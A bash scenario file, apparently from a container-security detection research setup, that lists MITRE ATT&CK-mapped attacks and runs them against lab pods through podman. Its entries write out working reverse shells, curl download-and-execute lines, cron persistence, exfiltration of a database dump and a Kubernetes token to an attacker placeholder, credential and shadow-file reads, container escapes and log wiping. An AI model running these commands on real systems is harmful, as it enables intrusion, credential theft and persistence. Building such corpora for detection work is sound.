# Attack scenarios of the corpus (sourced by record.sh), after MITRE ATT&CK for Containers.
# One per line: name|class|technique|target pod|how|command
#   how = exec: `podman exec` into the target (an attacker with a foothold, or kubectl exec)
#         web:  through the Python app's vulnerable /debug endpoint (the shell's parent is the web server)
#         net:  from the client container against the target's service (no foothold needed)
# @ATTACKER@ is the attacker container's address, @TARGET@ the target pod's.
SCENARIOS=(
  "web-shell|execution|T1190|api-5f6b8d7c9-h8t2w|web|id; uname -a; cat /etc/passwd"
  "reverse-shell|command-and-control|T1059.004|api-5f6b8d7c9-h8t2w|web|bash -c 'bash -i >& /dev/tcp/@ATTACKER@/4444 0>&1'"
  "download-execute|ingress-tool-transfer|T1105|web-7c9d5b6f48-x2k9p|exec|curl -s http://@ATTACKER@:8080/payload -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x"
  "miner|resource-hijacking|T1496|cache-0|exec|cp /usr/bin/python3 /dev/shm/kworkerd && /dev/shm/kworkerd -c 'import socket; s=socket.create_connection((\"@ATTACKER@\", 3333)); s.sendall(b\"{\\\"method\\\":\\\"mining.subscribe\\\"}\"); s.recv(100)' --donate-level 1"
  "credential-file-read|credential-access|T1552.001|db-0|exec|cat /root/.aws/credentials"
  "shadow-read|credential-access|T1003.008|cache-1|exec|cat /etc/shadow"
  "package-manager|execution|T1072|web-7c9d5b6f48-m4q7z|exec|apt-get -s install netcat-openbsd; dpkg -l | head -3"
  "new-listening-port|persistence|T1571|web-7c9d5b6f48-x2k9p|exec|python3 -c 'import socket; s=socket.socket(); s.bind((\"0.0.0.0\", 31337)); s.listen(1); c=socket.create_connection((\"127.0.0.1\", 31337)); a, _=s.accept(); a.close()'"
  "write-to-bin|persistence|T1554|web-7c9d5b6f48-m4q7z|exec|cp /bin/sh /usr/bin/.sshd && printf '#!/bin/sh\\n' > /bin/ls2"
  "sa-token|credential-access|T1528|api-5f6b8d7c9-q9r2v|web|T=\$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -s -m 3 -H \"Authorization: Bearer \$T\" http://@ATTACKER@:6443/api/v1/secrets"
  "mount-escape|privilege-escalation|T1611|db-1|exec|mkdir -p /tmp/host; mount -t ext4 /dev/sda1 /tmp/host; mount -t cgroup -o rdma cgroup /tmp/host"
  "nsenter-escape|privilege-escalation|T1611|cache-0|exec|nsenter -t 1 -m -u -i -n -p -- /bin/sh -c id"
  "ptrace-inject|defense-evasion|T1055|cache-1|exec|perl -e 'syscall(101, 16, 1, 0, 0)'"
  "fileless-memfd|defense-evasion|T1620|api-5f6b8d7c9-q9r2v|exec|perl -e 'my \$fd = syscall(319, \"x\", 0); open(my \$o, \">&=\", \$fd); open(my \$i, \"<\", \"/bin/true\"); binmode \$i; local \$/; print {\$o} <\$i>; \$o->flush; exec {\"/proc/self/fd/\$fd\"} \"true\"'"
  "network-scan|discovery|T1046|web-7c9d5b6f48-x2k9p|exec|for p in 22 80 443 2375 2379 5432 6379 10250; do timeout 1 bash -c \"echo > /dev/tcp/@ATTACKER@/\$p\" 2>/dev/null; done"
  "exfiltration|exfiltration|T1041|db-0|exec|runuser -u postgres -- pg_dump -h /tmp -U postgres postgres | curl -s -m 3 --data-binary @- http://@ATTACKER@:8080/upload"
  "cron-persistence|persistence|T1053.003|cache-1|exec|echo '* * * * * root curl -s http://@ATTACKER@:8080/p | sh' > /etc/cron.d/update"
  "redis-config-write|persistence|T1190|cache-0|net|redis-cli -h @TARGET@ config set dir /etc/cron.d && redis-cli -h @TARGET@ config set dbfilename root && redis-cli -h @TARGET@ save"
  "postgres-copy-program|execution|T1190|db-1|net|psql -h @TARGET@ -U postgres -c \"COPY (SELECT 1) TO PROGRAM 'id > /tmp/.p'\""
  "log-tamper|defense-evasion|T1070.002|web-7c9d5b6f48-m4q7z|exec|: > /var/log/nginx/access.log; rm -f /var/log/nginx/error.log"
  "setuid-shell|privilege-escalation|T1548.001|api-5f6b8d7c9-h8t2w|exec|cp /bin/bash /tmp/.bash && chmod u+s /tmp/.bash && runuser -u www-data -- /tmp/.bash -p -c id"
)

# Scenarios only in the held-out corpus (CORPUS_VARIANT=2): techniques the first set does not have.
EXTRA_SCENARIOS=(
  "python-reverse-shell|command-and-control|T1059.006|api-5f6b8d7c9-q9r2v|web|python3 -c 'import socket,subprocess,os; s=socket.create_connection((\"@ATTACKER@\", 4444)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call([\"/bin/sh\", \"-i\"])'"
  "ssh-authorized-keys|persistence|T1098.004|db-1|exec|mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGatehouseCorpusKey attacker' >> /root/.ssh/authorized_keys"
  "account-create|persistence|T1136.001|web-7c9d5b6f48-x2k9p|exec|useradd -o -u 0 -g 0 -M -s /bin/sh svc-backup"
  "container-discovery|discovery|T1613|cache-0|exec|cat /proc/1/cgroup /proc/self/mountinfo; ls -la /var/run/secrets/kubernetes.io/serviceaccount; env | grep -i -e kube -e service"
)

# Held-out order and targets: the extra scenarios added, each scenario against the other
# replica of its workload, the list shuffled (RANDOM is seeded by record.sh). redis-config-write
# goes last: it leaves redis saving into /etc/cron.d, which would leak into later windows on that pod.
variant2_scenarios() {
  local all=("${SCENARIOS[@]}" "${EXTRA_SCENARIOS[@]}") out=() last="" i j t s
  for s in "${all[@]}"; do
    s="${s//x2k9p/@A@}"; s="${s//m4q7z/x2k9p}"; s="${s//@A@/m4q7z}"
    s="${s//h8t2w/@A@}"; s="${s//q9r2v/h8t2w}"; s="${s//@A@/q9r2v}"
    s="${s//|cache-0|/|@A@|}"; s="${s//|cache-1|/|cache-0|}"; s="${s//|@A@|/|cache-1|}"
    s="${s//|db-0|/|@A@|}"; s="${s//|db-1|/|db-0|}"; s="${s//|@A@|/|db-1|}"
    if [[ "$s" == redis-config-write\|* ]]; then last="$s"; else out+=("$s"); fi
  done
  for ((i = ${#out[@]} - 1; i > 0; i--)); do j=$((RANDOM % (i + 1))); t="${out[i]}"; out[i]="${out[j]}"; out[j]="$t"; done
  SCENARIOS=("${out[@]}")
  [ -n "$last" ] && SCENARIOS+=("$last")
}

run_scenario() { # TARGET HOW CMD
  local target="corpus-$RUN-$1" how=$2 cmd=$3 tip
  tip="$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$target")"
  cmd="${cmd//@ATTACKER@/$ATTACKER}"
  cmd="${cmd//@TARGET@/$tip}"
  case "$how" in
    exec) timeout 30 podman exec "$target" /bin/sh -c "$cmd" >/dev/null 2>&1 ;;
    web) timeout 30 podman exec "$client" curl -s -m 25 -G --data-urlencode "cmd=$cmd" "http://$tip:8000/debug" >/dev/null 2>&1 ;;
    net) timeout 30 podman exec "$client" /bin/sh -c "$cmd" >/dev/null 2>&1 ;;
  esac
}
